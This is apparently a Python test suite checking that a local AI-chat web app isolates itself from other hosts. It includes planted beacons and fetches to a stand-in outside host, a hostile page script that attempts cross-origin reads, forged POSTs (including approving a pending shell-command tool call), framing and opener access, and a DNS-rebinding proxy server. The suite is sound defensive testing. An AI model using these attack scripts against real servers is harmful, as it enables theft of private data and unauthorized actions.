"""The page talks to no other host, and no other page, frame or host can read or control it."""
import base64
import http.client
import http.server
import json
import threading

import pytest
from support.browser import Keys, NoSuchFrameException, host_of
from support.provider import call, text, tools

pytestmark = pytest.mark.limit(90)
ELSEWHERE = "http://127.0.0.3:9/"
PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


# --- what the tests themselves rest on ---------------------------------------------------------------------------------

PLANTED = {
    "fetch": "fetch(URL).catch(() => 0)",
    "beacon": "navigator.sendBeacon(URL, 'x')",
    "image": "new Image().src = URL",
    "style": "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${URL}x.css'>`)",
    "frame": "document.body.insertAdjacentHTML('beforeend', `<iframe src='${URL}'></iframe>`)",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form id=f action='${URL}' method=post></form>`); document.getElementById('f').submit()",
    "socket": "try { new WebSocket(URL.replace('http', 'ws')) } catch (e) {}",
    "events": "new EventSource(URL)",
    "link": "const a = document.createElement('a'); a.href = URL; document.body.append(a); a.click()",
    "window": "window.open(URL)",
}


@pytest.mark.parametrize("how", PLANTED)
def test_a_request_to_another_host_fails_any_test(server, browse, how):
    page = browse(server)
    page.one("composer")
    page.script(f"const URL = {json.dumps(ELSEWHERE)}; {PLANTED[how]}")
    page.until(page.problems, "the request")
    assert "127.0.0.3" in str(page.problems())
    page.is_watched = False


@pytest.mark.parametrize("planted", ["const s = document.createElement('script'); s.textContent = '1'; document.body.append(s)",
                                     "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')",
                                     # Not every Chromium looks at a handler before its event comes.
                                     "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"1\">'); document.body.lastChild.click()"])
def test_what_the_policy_refuses_fails_any_test(server, browse, planted):
    page = browse(server)
    page.one("composer")
    page.script(planted)
    page.until(page.problems, "the refusal")
    assert "against the policy" in str(page.problems())
    page.is_watched = False


def test_what_the_policy_refuses_is_seen_without_the_log(server, browse, monkeypatch):
    """On a busy machine, lines of the browser's log may be late or lost."""
    page = browse(server)
    page.one("composer")
    page.problems()
    monkeypatch.setattr(page.driver, "get_log", lambda _: [])
    page.script("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')")
    page.until(page.problems, "the refusal")
    assert "against the policy" in str(page.problems())
    page.is_watched = False


def upload(server, chat, name, mime_type, content):
    form = f'--b\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: {mime_type}\r\n\r\n'.encode() + content + b"\r\n--b--\r\n"
    return server.client.post(f"/chats/{chat}/files", form, headers={"Content-Type": "multipart/form-data; boundary=b"}).expect(201).json["id"]


LOADED = """const [address, how, done] = arguments;
window.ran = undefined;
if (how === 'worker') {
  const worker = new Worker(address);
  worker.onmessage = () => done('ran');
  worker.onerror = () => done('refused');
} else if (how === 'module') import(address).then(() => done(window.ran ? 'ran' : 'loaded'), () => done('refused'));
else {
  const element = document.createElement(how === 'style' ? 'link' : 'script');
  if (how === 'style') element.rel = 'stylesheet', element.href = address;
  else element.src = address;
  element.onload = () => done(how === 'style' || window.ran ? 'ran' : 'loaded');
  element.onerror = () => done('refused');
  document.head.append(element);
}"""


@pytest.mark.parametrize("mime_type", ["text/javascript", "application/javascript", "Application/X-JavaScript; charset=utf-8", "text/ecmascript", "text/css"])
def test_attached_files_run_nowhere(server, provider, browse, mime_type):
    """An attacker who could insert markup into the page could still load no script from this server but its own."""
    provider.plan(text("ok"))
    server.client.turn("c", "hello")
    is_style = mime_type == "text/css"
    file = upload(server, "c", "a.css" if is_style else "a.js", mime_type, b"body { color: red }" if is_style else b"globalThis.ran = true; globalThis.postMessage?.('ran', '*')")
    page = browse(server)
    page.one("composer")
    page.is_watched = False
    for how in ["style"] if is_style else ["script", "module", "worker"]:
        assert page.driver.execute_async_script(LOADED, f"/chats/c/files/{file}", how) == "refused", how
    assert page.script("return window.ran") is None
    # The file can still be saved, and its type is kept.
    assert server.client.get("/chats/c/files").json["files"][0]["mime_type"].lower().startswith(mime_type.lower().split(";")[0])


@pytest.mark.parametrize("address", ["#%", "#%zz", "#100%", "#%E0%A4%A", "#a%20b", "#"])
def test_any_address_shows_the_page(server, browse, address):
    page = browse(server, f"/{address}")
    page.one("composer")
    assert not page.all("broken")


def test_hosts_are_told_apart():
    assert host_of("http://127.0.0.1:80001/x") != host_of("http://127.0.0.1:8000/x") and host_of("blob:http://127.0.0.1:8000/1") is None


# --- a hostile page ----------------------------------------------------------------------------------------------------

ATTACK = """<!doctype html><title>a nice page</title><body><script>
const T = TARGET, A = APPROVAL, results = {}, waits = [];
const note = (name, promise) => waits.push(promise.then((v) => { results[name] = v; }, () => { results[name] = "refused"; }));
const element = (name, kind, attribute, address) => note(name, new Promise((resolve) => {
  const e = document.createElement(kind);
  e.onload = () => resolve("loaded");
  e.onerror = () => resolve("refused");
  if (kind === "link") e.rel = "stylesheet";
  e[attribute] = address;
  document.body.append(e);
}));
const read = (path, options) => fetch(T + path, options).then(async (r) => r.status + " " + await r.text());
for (const path of PATHS) {
  for (const credentials of ["omit", "include"]) note(`fetch ${credentials} ${path}`, read(path, {credentials}));
  element(`script ${path}`, "script", "src", T + path);
  element(`image ${path}`, "img", "src", T + path);
  element(`style ${path}`, "link", "href", T + path);
}
note("events", new Promise((resolve) => {
  const feed = new EventSource(T + "/events", {withCredentials: true});
  feed.onopen = feed.onmessage = () => resolve("opened");
  feed.onerror = () => { feed.close(); resolve("refused"); };
}));
note("socket", new Promise((resolve) => {
  const socket = new WebSocket(T.replace("http", "ws") + "/events");
  socket.onopen = () => resolve("opened");
  socket.onerror = () => resolve("refused");
}));
const WORDS = {"/chats/c/interactions": {user_message: "driven"}, "/chats": {id: "driven"}, "/chats/c/undo": {}, "/chats/c/compact": {}, "/chats/c/fork": {},
               "/import": {}, ["/approvals/" + A]: {approved: true}, "/chats/c/interactions/int_001/regenerate": {}, "/login": {token: "x"}};
for (const [path, words] of Object.entries(WORDS)) {
  const said = JSON.stringify(words);
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
    const options = {method: "POST", body: said, headers: {"Content-Type": type}, credentials: "include"};
    note(`POST ${type} ${path}`, read(path, options));
    if (type !== "application/json") note(`blind POST ${type} ${path}`, fetch(T + path, {...options, mode: "no-cors"}).then((r) => r.type === "opaque" ? "refused" : r.status + " "));
    navigator.sendBeacon(T + path, new Blob([said], {type}));
  }
  const frame = document.createElement("iframe");
  frame.name = "f" + path;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: T + path, enctype: "text/plain", target: frame.name});
  const field = document.createElement("input");
  field.name = said.slice(0, -1) + (said === "{}" ? '"x":"' : ',"x":"');
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  note(`form ${path}`, new Promise((resolve) => { frame.onload = () => resolve("refused"); form.submit(); }));
}
const file = new FormData();
file.append("file", new File(["driven"], "driven.txt"));
note("upload", fetch(T + "/chats/c/files", {method: "POST", body: file, mode: "no-cors", credentials: "include"}).then((r) => r.type === "opaque" ? "refused" : r.status + " "));
for (const [method, path] of [["DELETE", "/chats/c"], ["PATCH", "/chats/c"], ["DELETE", "/chats/c/interactions/int_001"], ["PATCH", "/chats/c/tasks"]])
  note(`${method} ${path}`, read(path, {method, body: method === "PATCH" ? '{"title":"driven"}' : undefined, headers: {"Content-Type": "application/json"}, credentials: "include"}));
for (const [kind, attribute] of [["iframe", "src"], ["object", "data"], ["embed", "src"]]) {
  const frame = document.createElement(kind);
  frame.className = "framed";
  frame[attribute] = T + "/";
  document.body.append(frame);
}
const open_it = () => { window.other = window.open(T + "/#c", "other"); };
Promise.all(waits).then(() => { window.results = results; });
</script><button onclick="open_it()">open</button>"""


class Attacker:
    """A stranger's web server. It forwards paths that it does not have to the attacked server unchanged, as if its name had begun to lead there
    (DNS rebinding)."""

    def __init__(self, address, target):
        self.target = target
        self.page = b""
        self.heard = []  # the headers of each request
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *_):
                pass

            def answer(self, status, headers, body):
                self.send_response(status)
                for name, value in headers:
                    if name.lower() not in ("connection", "content-length", "transfer-encoding", "date", "server"):
                        self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def handle_any(self):
                attacker.heard.append(self.headers.items())
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if self.path == "/nice":
                    return self.answer(200, [("Content-Type", "text/html; charset=utf-8")], attacker.page)
                onward = http.client.HTTPConnection("127.0.0.1", attacker.target, timeout=30)
                onward.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    if name.lower() not in ("connection", "content-length"):
                        onward.putheader(name, value)
                onward.putheader("Connection", "close")
                if body:
                    onward.putheader("Content-Length", str(len(body)))
                onward.endheaders(body or None)
                came = onward.getresponse()
                self.answer(came.status, came.getheaders(), came.read())
                onward.close()

            do_GET = do_POST = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = handle_any

        class HttpServer(http.server.ThreadingHTTPServer):
            daemon_threads = True

            def handle_error(self, *_):
                pass  # a connection that the browser dropped

        self.http = HttpServer(address, Handler)
        self.port = self.http.server_port
        threading.Thread(target=self.http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.http.shutdown()
        self.http.server_close()


@pytest.fixture
def attackers():
    made = []

    def make(*arguments):
        made.append(Attacker(*arguments))
        return made[-1]

    yield make
    for each in made:
        each.close()


def everything(server):
    """Everything that a stranger could have changed."""
    get = server.client.get
    return [get("/chats").json, get("/chats/c?branches=all").json, get("/chats/c/files").json, get("/chats/c/tasks").json, get("/approvals").json, get("/trash").json,
            get("/grants").json]


def shown_in(page, frame):
    """Whether another page's frame shows our page."""
    try:
        page.driver.switch_to.frame(frame)
        return page.css("#page") != [] or "secret" in page.driver.page_source
    except NoSuchFrameException:  # the frame is empty
        return False
    finally:
        page.driver.switch_to.default_content()


TOKEN = "t0ken-of-this-server"


@pytest.mark.limit(150)
@pytest.mark.parametrize("guarded", [False, True], ids=["open", "with a token"])
@pytest.mark.parametrize("stranger", ["another address", "another port", "another name", "a name that leads here now"])
def test_a_stranger_can_neither_read_nor_drive_it(make_server, provider, browse, attackers, tmp_path, stranger, guarded):
    (tmp_path / "token").write_text(TOKEN)
    (tmp_path / "token").chmod(0o600)
    server = make_server(provider, **({"arguments": ["--token-file", tmp_path / "token"], "token": TOKEN} if guarded else {}))
    rebinds = stranger == "a name that leads here now"
    attacker = attackers(("127.0.0.1" if stranger == "another port" else "127.0.0.2", server.port if rebinds else 0), server.port)
    page = browse(server, hosts={"nice.example": "127.0.0.2"})
    page.is_watched = False  # the window visits the stranger's page
    if guarded:
        page.type("token", TOKEN)
        page.press("log-in")
    # Worth stealing: a chat, its file, a call that waits for a person.
    provider.plan(text("the secret answer"))
    page.one("composer")
    server.client.turn("c", "the secret question")
    form = b'--b\r\nContent-Disposition: form-data; name="file"; filename="secret.png"\r\nContent-Type: image/png\r\n\r\n' + PIXEL + b"\r\n--b--\r\n"
    picture = server.client.post("/chats/c/files", form, headers={"Content-Type": "multipart/form-data; boundary=b"}).expect(201).json["id"]
    provider.plan(tools(call("run_shell", {"command": "touch driven"})))
    waiting = server.client.start("w", "the secret request")
    approval = waiting.until("approval_required")["approval_id"]
    page.until_text("chat-item", "the secret question")
    before, asked = everything(server), len(provider.requests)

    asset = page.script("return document.querySelector('script').src").split("/", 3)[3]
    paths = ["/", f"/{asset}", "/chats", "/chats/c", f"/chats/c/files/{picture}", "/chats/c/export?format=json", "/approvals", f"/approvals/{approval}/change", "/tools", "/models",
             "/audit", "/search?q=secret", "/events", "/openapi.json", "/healthz", "/metrics"]
    home = f"http://nice.example:{attacker.port}" if "name" in stranger else f"http://127.0.0.{1 if stranger == 'another port' else 2}:{attacker.port}"
    target = home if rebinds else page.origin
    attacker.page = ATTACK.replace("TARGET", json.dumps(target)).replace("APPROVAL", json.dumps(approval)).replace("PATHS", json.dumps(paths)).encode()
    page.driver.get(home + "/nice")
    assert page.driver.title == "a nice page"
    results = page.until(lambda: page.script("return window.results"), "the end of the attack", limit=30)
    assert len(results) > 100
    for what, came in results.items():
        assert came == "refused" or came.startswith("403 ") and "secret" not in came, f"{what}: {came[:200]}"
    for frame in page.css(".framed"):
        assert not shown_in(page, frame)
    if not rebinds:
        # A window opened by the stranger shows it nothing either.
        page.css("button")[-1].click()
        page.until(lambda: len(page.driver.window_handles) == 2, "the other window")
        own = page.driver.current_window_handle
        page.driver.switch_to.window(next(each for each in page.driver.window_handles if each != own))
        page.until(lambda: page.driver.current_url.startswith(page.origin), "where it leads")
        assert "secret" not in page.driver.page_source
        page.driver.switch_to.window(own)
        assert page.script("try { return window.other.document.title } catch (e) { return 'refused' }") == "refused"
    assert everything(server) == before and len(provider.requests) == asked
    assert not (server.home.workspace / "driven").exists()
    # Its server got at most the cookie, which is not valid without the page's key.
    sent = {(name, value) for headers in attacker.heard for name, value in headers}
    assert not any(TOKEN in value or name.lower() in ("authorization", "reprise-page-key") for name, value in sent), sent
    for name, value in sent:
        if name.lower() == "cookie":
            server.client.get("/chats", headers={"Authorization": "", "Cookie": value}).error(401)
    # The attacked server is healthy and still obeys its own page.
    page.driver.get(page.origin + "/#w")
    provider.plan(text("done"))
    page.press("approve")
    waiting.finish()
    assert (server.home.workspace / "driven").exists()


def test_links_of_a_model_lead_out_alone(server, provider, browse):
    """Only a person's click opens a model's link, in a window without a reference to this one."""
    provider.plan(text("[out](http://127.0.0.3:9/x) <http://127.0.0.3:9/y> http://127.0.0.3:9/z [mail](mailto:a@b.example) [app](vscode://file/x) [near](/chats)"))
    page = browse(server)
    page.say("links")
    page.until(lambda: len(page.css("[data-testid=answer] a")) == 4, "the links")
    for link in page.css("[data-testid=answer] a"):
        assert link.get_attribute("target") == "_blank" and {"noopener", "noreferrer"} <= set(link.get_attribute("rel").split())
    assert "app" in page.text("answer") and "near" in page.text("answer")
    # Its host is not looked up earlier either.
    ahead = "fetch('/').then((answer) => arguments[0](answer.headers.get('X-DNS-Prefetch-Control')))"
    assert page.driver.execute_async_script(ahead) == "off"
    page.keys(Keys.TAB)
    assert not page.problems()
